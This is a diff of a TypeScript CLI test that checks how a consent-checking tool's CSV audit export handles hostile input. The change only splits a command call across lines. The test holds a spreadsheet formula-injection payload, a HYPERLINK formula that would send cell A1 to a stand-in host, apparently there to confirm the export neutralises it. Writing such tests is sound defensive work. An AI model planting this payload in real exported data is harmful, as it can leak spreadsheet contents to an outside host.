@@ -16,7 +16,18 @@ describe('consent-gate audit export --format csv', () => {
     const dataDir = mkdtempSync(join(tmpdir(), 'cg-csv-'));
     const run = (...args: string[]) => cli(['--data-dir', dataDir, ...args], { CONSENT_GATE_API_KEY: ADMIN_KEY });
     const hostile = '=HYPERLINK("http://x.example/?leak="&A1,"open")';
-    const checked = await run('check', '+12125550101', '--entity', hostile, '--purpose', 'telemarketing', '--call-type', 'human_voice', '--at', '2026-04-10T18:00:00Z');
+    const checked = await run(
+      'check',
+      '+12125550101',
+      '--entity',
+      hostile,
+      '--purpose',
+      'telemarketing',
+      '--call-type',
+      'human_voice',
+      '--at',
+      '2026-04-10T18:00:00Z',
+    );
     expect(checked.code).toBe(1);
 
     const file = join(dataDir, 'decisions.csv');
